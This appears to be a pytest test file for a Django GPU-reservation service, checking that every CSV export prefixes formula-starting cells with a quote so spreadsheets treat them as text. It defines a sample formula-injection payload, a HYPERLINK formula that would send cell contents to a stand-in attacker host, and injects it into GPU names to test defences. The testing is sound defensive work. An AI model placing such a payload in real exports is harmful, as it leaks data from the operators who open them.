"""Every CSV Berth writes opens in a spreadsheet as data: a cell that would start a formula is text.

lab: node-a and node-b, 4 GPUs each, in lab-pool. A node says what its GPUs are called, so a
compromised one can name them `=HYPERLINK(...)`; operators and finance open these files.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client

from config.csvcells import DictWriter, Writer, safe_cell
from inventory.models import Device

ROOT = Path(__file__).resolve().parent.parent.parent
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-inf", "'-inf"),
        (FORMULA, "'" + FORMULA),
        # Numbers stay numbers, so the figures still add up.
        ("-3", "-3"),
        ("-3.25", "-3.25"),
        ("+2", "+2"),
        ("-1.5e3", "-1.5e3"),
        ("-.5", "-.5"),
        # What does not start a formula is left as it is.
        ("acme", "acme"),
        ("a=1", "a=1"),
        ("", ""),
        (" =1", " =1"),
        (-3.5, -3.5),
        (None, None),
    ],
)
def test_a_cell_that_would_start_a_formula_gets_a_single_quote_and_numbers_stay(cell, written):
    assert safe_cell(cell) == written


def test_the_writers_make_every_cell_safe_the_header_included():
    out = io.StringIO()
    Writer(out, lineterminator="\n").writerow(["=a", -2, "-2", "ok"])
    writer = DictWriter(out, fieldnames=["@name", "n"], extrasaction="ignore", lineterminator="\n")
    writer.writeheader()
    writer.writerow({"@name": "+x", "n": -1.5, "extra": "=dropped"})
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=a", "-2", "-2", "ok"],
        ["'@name", "n"],
        ["'+x", "-1.5"],
    ]


def test_no_csv_is_written_without_the_safe_writers():
    """csv.writer and csv.DictWriter are reached only through config.csvcells."""
    found = []
    for package in ("capacity", "inventory", "config", "devtools", "webhooks", "agent"):
        for path in (ROOT / package).rglob("*.py"):
            if path == ROOT / "config" / "csvcells.py":
                continue
            text = path.read_text()
            if re.search(r"\bcsv\.(writer|DictWriter)\b|from csv import", text):
                found.append(str(path.relative_to(ROOT)))
    assert found == []


def named_like_a_formula():
    """Give every lab GPU the product name and UUID a compromised node could report."""
    for device in Device.objects.all():
        device.attributes = {**device.attributes, "productName": FORMULA}
        device.uuid = f"{FORMULA}-{device.pk}"
        device.save(update_fields=["attributes", "uuid"])


def test_a_formula_in_a_gpu_name_reaches_the_usage_and_reservation_csvs_as_text(as_acme, acme, lab, ask):
    named_like_a_formula()
    held = as_acme.post("/api/v1/reservations", ask(2), format="json").json()
    assert held["status"] == "placed"

    usage = as_acme.get("/api/v1/usage?groupBy=model&format=csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(usage)))
    assert rows and {r["gpuModel"] for r in rows} == {"'" + FORMULA}
    assert all(re.fullmatch(r"-?[0-9.]+", r["gpuHoursBookedAhead"]) for r in rows)  # numbers stay numbers

    out = io.StringIO()
    call_command("usage_report", "--group-by=model", "--csv", stdout=out)
    assert {r["gpuModel"] for r in csv.DictReader(io.StringIO(out.getvalue()))} == {"'" + FORMULA}

    page = Client()
    page.force_login(acme)
    listed = page.get("/reservations/?format=csv").content.decode()
    (row,) = csv.DictReader(io.StringIO(listed))
    assert row["atoms"].startswith("'" + FORMULA) and row["id"] == str(held["id"])
    assert FORMULA not in {cell for r in csv.reader(io.StringIO(listed)) for cell in r}
